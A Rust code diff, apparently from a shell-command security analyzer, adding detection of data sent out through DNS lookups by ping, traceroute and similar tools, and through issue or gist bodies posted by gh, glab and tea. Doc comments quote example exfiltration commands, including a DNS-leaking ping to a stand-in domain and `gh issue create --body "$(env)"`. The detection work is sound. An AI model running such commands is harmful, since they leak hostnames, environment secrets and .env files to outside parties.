@@ -22,6 +22,22 @@ pub(crate) const DNS_CLIENTS: &[&str] = &[
     "getent",
 ];
 
+/// Programs that resolve a host operand by DNS before anything else (ping(8), traceroute(8),
+/// tracepath(8), mtr(8), fping(8), arping(8), telnet(1)): the name is a DNS query, so a name
+/// built from data at run time (`ping -c1 $(cat /etc/hostname).x.example`) sends it, as `dig`
+/// does.
+pub(crate) const NAME_RESOLVERS: &[&str] = &[
+    "ping",
+    "ping6",
+    "traceroute",
+    "traceroute6",
+    "tracepath",
+    "mtr",
+    "fping",
+    "arping",
+    "telnet",
+];
+
 /// Programs whose operands are URLs fetched (curl(1), wget(1), HTTPie `http`/`https`, xh,
 /// curlie, aria2c(1), lynx/links/w3m `-dump`).
 pub(crate) const URL_CLIENTS: &[&str] = &[
@@ -110,7 +126,7 @@ fn static_suffix(arg: &Arg) -> Option<String> {
 /// A DNS query whose name carries data computed at run time: an upload to the name's
 /// domain (source `<environment>` for an environment dump, `<dns label>` otherwise).
 pub(crate) fn dns_query(a: &mut Analyzer, name: &str, inv: &Inv) {
-    if !DNS_CLIENTS.contains(&name) {
+    if !DNS_CLIENTS.contains(&name) && !NAME_RESOLVERS.contains(&name) {
         return;
     }
     for op in inv.rest().iter().take(16) {
@@ -240,6 +256,56 @@ pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
                 .unwrap_or(&op.text)
                 .to_string();
             a.upload(name, &target, Some(s), false, &inv.evidence);
+        }
+    }
+}
+
+/// Forge CLIs that post their option values as issue, pull-request, comment, gist or API
+/// bodies to their host: (program, host, verbs that post, verbs that store secrets on purpose).
+/// Sources: gh(1) (`issue|pr create|comment|edit --body|--title`, `release create --notes`,
+/// `api -f|-F|--field|--raw-field|--input`, `gist create`), glab(1) (`issue|mr create|note`,
+/// `api`), tea(1) (Gitea). `gh secret set` / `gh variable set` send a secret by design.
+pub(crate) const API_POSTERS: &[(&str, &str, &[&str])] = &[
+    (
+        "gh",
+        "github.com",
+        &["create", "comment", "edit", "api", "review", "gist"],
+    ),
+    (
+        "glab",
+        "gitlab.com",
+        &["create", "note", "update", "api", "snippet"],
+    ),
+    ("tea", "gitea", &["create", "comment"]),
+];
+
+/// An option value of an [`API_POSTERS`] program built by a command substitution that dumps
+/// the environment or reads a file (`gh issue create --body "$(env)"`, `gh api … -f
+/// body="$(cat .env)"`): an upload of that data to the forge, which anyone who can read the
+/// issue or gist then has. Bodies written in the command itself (`--body "$(cat <<'EOF' …)"`)
+/// read no file and are not uploads.
+pub(crate) fn api_posts(a: &mut Analyzer, name: &str, inv: &Inv) {
+    let Some((_, host, verbs)) = API_POSTERS.iter().find(|(p, ..)| *p == name) else {
+        return;
+    };
+    let words = inv.rest();
+    if words
+        .iter()
+        .any(|w| matches!(w.text.as_str(), "secret" | "variable"))
+    {
+        return;
+    }
+    if !words.iter().any(|w| verbs.contains(&w.text.as_str())) {
+        return;
+    }
+    for op in words.iter().take(48) {
+        if !op.from_subst && !op.raw.contains("$(") && !op.raw.contains('`') {
+            continue;
+        }
+        if op.taint.env_dump {
+            a.upload(name, host, None, true, &inv.evidence);
+        } else if let Some(f) = &op.taint.read {
+            a.upload(name, host, Some(f.clone()), false, &inv.evidence);
         }
     }
 }
